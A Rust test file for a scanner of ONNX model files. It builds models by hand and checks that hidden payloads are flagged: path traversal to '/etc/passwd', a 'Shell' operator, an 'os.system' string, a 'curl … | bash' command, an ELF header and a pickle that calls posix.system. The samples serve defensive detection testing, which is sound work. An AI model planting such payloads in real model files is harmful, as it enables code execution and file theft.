//! Models built by hand.

use crate::wire::proto::build::{bytes, int, message};
use crate::{Limits, Part, Verdict, scan};

fn node(kind: &str, domain: &str) -> Vec<u8> {
    message(1, &[bytes(1, "x"), bytes(2, "y"), bytes(4, kind), bytes(7, domain)])
}

fn value(number: u32, name: &str) -> Vec<u8> {
    message(
        number,
        &[
            bytes(1, name),
            message(
                2,
                &[message(
                    1,
                    &[int(1, 1), message(2, &[message(1, &[int(1, 4)]), message(1, &[bytes(2, "n")])])],
                )],
            ),
        ],
    )
}

fn model(graph: &[Vec<u8>], rest: &[Vec<u8>]) -> Vec<u8> {
    let graph = [graph.to_vec(), vec![bytes(2, "g"), value(11, "x"), value(12, "y")]].concat();
    [int(1, 9), bytes(2, "test"), message(7, &graph), message(8, &[int(2, 17)]), rest.concat()].concat()
}

fn tensor(parts: &[Vec<u8>]) -> Vec<u8> {
    message(5, parts)
}

fn read(bytes: &[u8]) -> Part {
    scan("m", &bytes, &Limits::default())
}

fn check(bytes: &[u8], verdict: Verdict, rule: &str) {
    let part = read(bytes);
    assert_eq!(part.verdict(), verdict, "{part:?}");
    assert!(verdict == Verdict::Clean || part.all_findings().any(|f| f.check == rule), "{part:?}");
}

#[test]
fn an_ordinary_model_is_clean_and_described() {
    let weights = tensor(&[int(1, 2), int(1, 3), int(2, 1), bytes(8, "w"), bytes(9, [0; 24])]);
    let bytes_ = model(
        &[node("Relu", ""), node("Gelu", "com.microsoft"), weights],
        &[message(14, &[bytes(1, "license"), bytes(2, "MIT")])],
    );
    let part = read(&bytes_);
    assert_eq!(part.verdict(), Verdict::Clean, "{part:?}");
    let facts = part.facts;
    assert_eq!(
        (facts.framework.as_deref(), facts.parameters, facts.licence.as_deref()),
        (Some("ONNX IR 9"), Some(6), Some("MIT"))
    );
    assert_eq!(facts.inputs[0].shape, ["4", "n"]);
    assert_eq!(facts.operators["com.microsoft::Gelu"], 1);
}

#[test]
fn external_data_must_stay_beside_the_model() {
    let located = |path: &str| {
        let entry = message(13, &[bytes(1, "location"), bytes(2, path)]);
        model(&[tensor(&[int(1, 4), int(2, 1), bytes(8, "w"), entry, int(14, 1)])], &[])
    };
    check(&located("weights.bin"), Verdict::Clean, "");
    for path in ["../w", "/etc/passwd", "a\\..\\..\\b", "C:/x", "https://x.y/w", "a/../../b"] {
        check(&located(path), Verdict::Found, "S065");
    }
    // In a constant of a node, and in a branch.
    let entry = message(13, &[bytes(1, "location"), bytes(2, "../w")]);
    let constant = |number, body: Vec<u8>| {
        message(1, &[bytes(4, "Constant"), message(5, &[bytes(1, "value"), message(number, &[body])])])
    };
    check(&model(&[constant(5, [int(2, 1), entry.clone()].concat())], &[]), Verdict::Found, "S065");
    let branch = tensor(&[int(2, 1), entry]);
    check(&model(&[constant(6, branch)], &[]), Verdict::Found, "S065");
}

#[test]
fn foreign_operators_are_found_wherever_they_are() {
    check(&model(&[node("Shell", "vendor.custom")], &[]), Verdict::Found, "S066");
    check(&model(&[node("PyOp", "ai.onnx.contrib")], &[]), Verdict::Found, "S066");
    check(&model(&[node("AzureTextToText", "com.microsoft.extensions")], &[]), Verdict::Found, "S066");
    check(&model(&[node("BertTokenizer", "ai.onnx.contrib")], &[]), Verdict::Clean, "");
    let function = |inner: &str| {
        message(25, &[bytes(1, "F"), bytes(10, "local"), message(7, &[bytes(4, inner), bytes(7, "local")])])
    };
    let inside = |kind: &str, domain: &str| {
        message(25, &[bytes(1, "F"), bytes(10, "local"), message(7, &[bytes(4, kind), bytes(7, domain)])])
    };
    check(&model(&[node("F", "local")], &[inside("Relu", "")]), Verdict::Clean, "");
    check(&model(&[node("F", "local")], &[inside("X", "elsewhere")]), Verdict::Found, "S066");
    check(&model(&[node("F", "local")], &[function("F")]), Verdict::Found, "S067");
}

#[test]
fn contradictions_and_payloads_are_found() {
    let with = |parts: &[Vec<u8>]| model(&[tensor(parts)], &[]);
    check(&with(&[int(1, u64::MAX), int(2, 1)]), Verdict::Found, "S067");
    check(&with(&[int(1, 1 << 40), int(1, 1 << 40), int(2, 1)]), Verdict::Found, "S067");
    check(&with(&[int(1, 4), int(2, 1), bytes(9, [0; 15])]), Verdict::Found, "S067");
    check(&with(&[int(1, 8), int(2, 2), bytes(9, b"\x7fELF\x02\x01\x01\0")]), Verdict::Found, "S063");
    check(&with(&[int(1, 1), int(2, 8), bytes(6, "import os; os.system('id')")]), Verdict::Found, "S061");
    check(&model(&[], &[bytes(6, "curl https://a.b/x | bash")]), Verdict::Found, "S061");
    let mut nested = node("Relu", "");
    for _ in 0..super::graph::GRAPHS_MAX + 2 {
        nested = message(1, &[bytes(4, "If"), message(5, &[message(6, &[nested])])]);
    }
    check(&model(&[nested], &[]), Verdict::Found, "S067");
}

proptest::proptest! {
    #[test]
    fn survives_anything(flips in proptest::collection::vec((0usize..150, proptest::num::u8::ANY), 0..8)) {
        let weights = tensor(&[int(1, 2), int(2, 1), bytes(8, "w"), bytes(9, [0; 8])]);
        let mut bytes = model(&[node("Relu", ""), weights], &[]);
        for (at, value) in flips {
            if let Some(b) = bytes.get_mut(at) { *b = value; }
        }
        let _ = read(&bytes);
    }
}

#[test]
fn fields_that_the_format_does_not_have_are_looked_into() {
    let evil = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.";
    check(&model(&[node("Relu", "")], &[bytes(99, evil)]), Verdict::Found, "S063");
    let note = "exported by the tool chain of the vendor";
    check(&model(&[node("Relu", "")], &[bytes(99, note), int(300, 1)]), Verdict::Clean, "");
    assert_eq!(read(&model(&[node("Relu", "")], &[bytes(99, [0xfe; 40])])).verdict(), Verdict::Inconclusive);
}
